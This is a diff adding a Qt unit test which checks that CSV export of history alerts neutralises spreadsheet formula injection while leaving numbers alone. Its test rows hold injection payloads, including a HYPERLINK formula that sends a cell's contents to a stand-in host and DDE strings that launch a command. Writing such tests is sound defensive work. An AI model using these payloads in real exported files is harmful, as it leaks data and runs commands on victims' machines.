@@ -124,6 +124,34 @@ private slots:
         QVERIFY(HistoryCsvLine(alerts[2]).startsWith("1970-01-01T00:00:00.000Z,plain,X,"));
     }
 
+    // What a spreadsheet would run as a formula is written as text; numbers stay numbers.
+    void csvFieldsNeverStartAFormula_data() {
+        QTest::addColumn<QString>("text");
+        QTest::addColumn<QString>("cell"); // the field as read back
+        QTest::newRow("hyperlink") << R"(=HYPERLINK("http://x/?"&A1,"Click"))"
+                                   << R"('=HYPERLINK("http://x/?"&A1,"Click"))";
+        QTest::newRow("dde") << "+cmd|' /C calc'!A0" << "'+cmd|' /C calc'!A0";
+        QTest::newRow("minus") << "-2+3+cmd|' /C calc'!A0" << "'-2+3+cmd|' /C calc'!A0";
+        QTest::newRow("at") << "@SUM(1+1)" << "'@SUM(1+1)";
+        QTest::newRow("tab") << "\t=1" << "'\t=1";
+        QTest::newRow("carriage return") << "\r=1" << "'\r=1";
+        QTest::newRow("lone sign") << "-" << "'-";
+        QTest::newRow("negative") << "-1.5" << "-1.5";
+        QTest::newRow("signed exponent") << "+2.5e-3" << "+2.5e-3";
+        QTest::newRow("fraction only") << "-.5" << "-.5";
+        QTest::newRow("inside") << "Gap = up, @ 10" << "Gap = up, @ 10";
+        QTest::newRow("apostrophe") << "'=1" << "'=1";
+        QTest::newRow("empty") << "" << "";
+    }
+    void csvFieldsNeverStartAFormula() {
+        QFETCH(QString, text);
+        QFETCH(QString, cell);
+        const THistoryAlert alert = MakeHistoryAlert(0, text, text, -1.5, text, "inbox");
+        const QStringList fields = ParseCsvRecord(HistoryCsvLine(alert));
+        QCOMPARE(fields, QStringList({"1970-01-01T00:00:00.000Z", cell, cell, "-1.5", cell,
+                                      "inbox"}));
+    }
+
     void symbolPrefixIgnoresCaseAndTakesNoWildcards() {
         THistoryStore store(file(), THistoryStore::TMode::ReadWrite);
         const QStringList symbols = {"az", "AZ1", "Azb", "b", "A%", "A_B", "AXB", "ZZ", "z", "a"};
